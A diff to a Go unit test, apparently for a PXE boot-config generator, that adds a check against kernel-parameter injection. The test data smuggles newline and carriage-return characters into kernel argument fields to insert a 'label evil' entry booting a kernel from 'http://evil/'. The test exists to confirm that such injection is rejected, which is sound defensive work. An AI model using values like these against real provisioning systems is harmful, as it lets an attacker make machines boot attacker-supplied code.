@@ -53,8 +53,9 @@ func TestATemplateThatIsNoneStopsTheStart(t *testing.T) {
 func TestNobodyWritesBootCommands(t *testing.T) {
 	s := newSite(t, "bios")
 	s.task.Node.DriverInfo["kernel_append_params"] = "quiet\nlabel evil\nkernel http://evil/"
+	s.task.Node.InstanceInfo["ramdisk_kernel_arguments"] = "quiet\rlabel evil\nlabel evil\nkernel http://evil/"
 	s.prepare(t, s.boot(t, "pxe"))
-	if text := read(t, s.tftp, nodeUUID, "config"); strings.Contains(text, "\nlabel evil") {
+	if text := read(t, s.tftp, nodeUUID, "config"); strings.Contains(text, "\nlabel evil") || strings.Contains(text, "\r") {
 		t.Errorf("got\n%s", text)
 	}
 }
